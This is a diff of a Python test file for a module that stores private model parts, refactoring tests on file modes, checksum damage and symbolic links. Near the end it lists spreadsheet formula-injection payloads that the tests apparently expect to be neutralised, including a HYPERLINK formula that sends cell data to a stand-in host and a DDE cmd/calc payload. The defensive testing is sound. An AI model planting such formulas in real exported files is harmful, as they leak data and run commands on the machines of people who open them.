@@ -96,7 +96,7 @@ ARRAY = hnp.arrays(
 
 
 @settings(
-    max_examples=60,
+    max_examples=20,
     deadline=None,
     suppress_health_check=[HealthCheck.function_scoped_fixture],
 )
@@ -128,30 +128,28 @@ def test_the_file_is_an_npz_without_pickle_that_says_what_it_is(file):
         assert re.fullmatch(rb"[0-9a-f]{64}", archive.comment)
 
 
-def test_only_the_user_may_read_a_part(file, folder):
+def test_only_the_user_may_read_a_part(file, folder, tmp_path):
+    """The mode of a folder that the user has made is left alone."""
+    tmp_path.chmod(0o750)
     previous = os.umask(0)
     try:
-        save_part(folder.parent / "other", PART)
+        save_part(tmp_path / "other", PART)
+        save_part(tmp_path, PART)
     finally:
         os.umask(previous)
-    for made in (folder, folder.parent / "other"):
-        assert stat.S_IMODE(made.stat().st_mode) == 0o700
+    for made, mode in ((folder, 0o700), (tmp_path / "other", 0o700), (tmp_path, 0o750)):
+        assert stat.S_IMODE(made.stat().st_mode) == mode
         assert stat.S_IMODE((made / file.name).stat().st_mode) == 0o600
-
-
-def test_the_mode_of_a_folder_of_the_user_is_left_alone(tmp_path):
-    tmp_path.chmod(0o750)
-    save_part(tmp_path, PART)
-    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o750
-    assert stat.S_IMODE((tmp_path / f"{MODEL}.npz").stat().st_mode) == 0o600
 
 
 def test_parts_are_listed_by_model(folder, file):
     assert list_parts(folder.parent / "none") == []
-    save_part(folder, ModelPart("ffffffff", "fdskl"))
+    for model in ("ffffffff", "a" * 32):
+        save_part(folder, ModelPart(model, "fdskl"))
+        assert load_part(folder, model).model == model
     for other in ("notes.txt", "x.part", "README.npz", "FFFFFFFF.npz", "abc.npz"):
         (folder / other).write_text("")
-    assert list_parts(folder) == [MODEL, "ffffffff"]
+    assert list_parts(folder) == [MODEL, "a" * 32, "ffffffff"]
 
 
 def test_secrets_are_neither_printed_nor_logged(folder, caplog):
@@ -226,18 +224,14 @@ def test_a_folder_that_may_not_be_written_or_read(folder, file):
     folder.chmod(0o700)
 
 
-def test_a_folder_that_is_a_file(tmp_path):
-    place = tmp_path / "bank"
-    place.write_text("secret")
+def test_a_folder_that_is_a_file_and_a_part_that_is_a_folder(folder, tmp_path):
+    (place := tmp_path / "bank").write_text("secret")
     with pytest.raises(PartyError, match="cannot be written") as caught:
         save_part(place, PART)
     checked(caught.value, place)
     assert "cannot be read" in refusal(place)
     with pytest.raises(PartyError, match="cannot be read"):
         list_parts(place)
-
-
-def test_a_part_that_is_a_folder(folder):
     (folder / f"{MODEL}.npz").mkdir(parents=True)
     assert "cannot be read: Is a directory" in refusal(folder)
     with pytest.raises(PartyError, match="cannot be written"):
@@ -258,14 +252,11 @@ def test_no_part_of_that_model_says_how_many_there_are(folder, caplog):
     assert str(folder / "ffffffff.npz") in caplog.text
 
 
-def test_a_part_that_was_copied_names_both_models(folder, file):
+def test_a_part_of_another_model_or_strategy_names_both(folder, file):
     (folder / "ffffffff.npz").write_bytes(file.read_bytes())
     text = refusal(folder, "ffffffff")
     assert "part of model ffffffff" in text
     assert f"was written for model {MODEL}" in text
-
-
-def test_a_part_of_another_strategy(folder, file):
     text = refusal(folder, strategy="fk-kmeans")
     assert text.endswith("must be one of strategy 'fk-kmeans', got 'fdskl'")
 
@@ -288,64 +279,44 @@ def test_what_is_no_id_never_becomes_a_path(folder, monkeypatch, model):
         save_part(folder, ModelPart(model, "fdskl"))
 
 
-@pytest.mark.parametrize("model", ["01234567", "a" * 32])
-def test_ids_of_every_length_are_taken(folder, model):
-    save_part(folder, ModelPart(model, "fdskl"))
-    assert load_part(folder, model).model == model
-
-
 # --- Damage
 
 
-def test_a_file_cut_anywhere_is_refused(folder, file):
-    whole = file.read_bytes()
-    for size in [*range(0, len(whole), 7), len(whole) - 1]:
-        file.write_bytes(whole[:size])
-        assert "is damaged: its checksum is wrong" in refusal(folder)
-    file.write_bytes(whole + b"\0")
-    assert "is damaged" in refusal(folder)
+def damages(content):
+    """Yield the content cut, or with a bit flipped, at every fifth byte."""
+    rng = np.random.default_rng(1)
+    for place in range(0, len(content), 5):
+        flipped = bytearray(content)
+        flipped[place] ^= 1 << int(rng.integers(8))
+        yield from (bytes(flipped), content[:place])
 
 
-def test_a_file_with_any_bit_flipped_is_refused(folder, file):
+def test_a_file_cut_or_flipped_anywhere_is_refused(folder, file):
     whole = file.read_bytes()
-    rng = np.random.default_rng(0)
-    for place in range(0, len(whole), 3):
-        damaged = bytearray(whole)
-        damaged[place] ^= 1 << int(rng.integers(8))
+    for damaged in (*damages(whole), whole[:-1], whole + b"\0"):
         file.write_bytes(damaged)
-        assert "is damaged" in refusal(folder)
+        assert "is damaged: its checksum is wrong" in refusal(folder)
     file.write_bytes(whole)
     assert load_part(folder, MODEL).settings == PART.settings
 
 
 def test_no_content_with_a_right_checksum_raises_anything_else(folder, file):
     """Cut or flipped before the checksum was made, as a faulty writer would."""
-    content = file.read_bytes()[:-64]
-    rng = np.random.default_rng(1)
-    for place in range(0, len(content), 5):
-        flipped = bytearray(content)
-        flipped[place] ^= 1 << int(rng.integers(8))
-        for damaged in (bytes(flipped), content[:place]):
-            file.write_bytes(sealed(damaged))
-            try:
-                load_part(folder, MODEL)
-            except PartyError as error:
-                checked(error, folder)
+    for damaged in damages(file.read_bytes()[:-64]):
+        file.write_bytes(sealed(damaged))
+        try:
+            load_part(folder, MODEL)
+        except PartyError as error:
+            checked(error, folder)
 
 
 @pytest.mark.parametrize(
     "arrays",
     [
         {},
-        {"about": np.array("no JSON")},
-        {"about": np.array("[]")},
-        {"about": np.array("{}")},
-        {"about": np.array([None])},
-        about(format="x"),
-        about(format=2),
+        *({"about": np.array(text)} for text in ("no JSON", "[]", "{}", [None])),
         {"about": np.array('{"format": 1, "model": "0123456789abcdef"}')},
-        about(settings=[1]),
-        about(strategy=5),
+        *(about(format="x"), about(format=2), about(settings=[1]), about(strategy=5)),
         about(arrays=["coef"]),
     ],
 )
@@ -359,17 +330,12 @@ def test_an_npz_that_is_no_part(folder, file, arrays):
 # --- Links that somebody left in the folder
 
 
-def test_a_part_is_not_read_through_a_link(folder, file, tmp_path):
+def test_a_part_is_not_read_or_written_through_a_link(folder, file, tmp_path):
     file.rename(tmp_path / "elsewhere")
     file.symlink_to(tmp_path / "elsewhere")
     assert "cannot be read: it is a symbolic link" in refusal(folder)
     with pytest.raises(OSError, match="symbolic link"):
         read_private(file)
-
-
-def test_a_part_is_not_written_over_a_link(folder, file, tmp_path):
-    file.rename(tmp_path / "elsewhere")
-    file.symlink_to(tmp_path / "elsewhere")
     with pytest.raises(PartyError, match="it is a symbolic link"):
         save_part(folder, PART)
     with pytest.raises(PartyError, match=r"the requests .* it is a symbolic link"):
@@ -405,16 +371,8 @@ def cells(folder, ids, values):
 
 
 ATTACKS = [
-    '=HYPERLINK("http://x?"&B1)',
-    "@SUM(1+1)",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "\t=1+1",
-    "\r=1",
-    "\n=1",
-    " =1",
-    "\uff1d1+1",
-    "+49 170 1",
+    *('=HYPERLINK("http://x?"&B1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3"),
+    *("\t=1+1", "\r=1", "\n=1", " =1", "\uff1d1+1", "+49 170 1"),
 ]
 
 
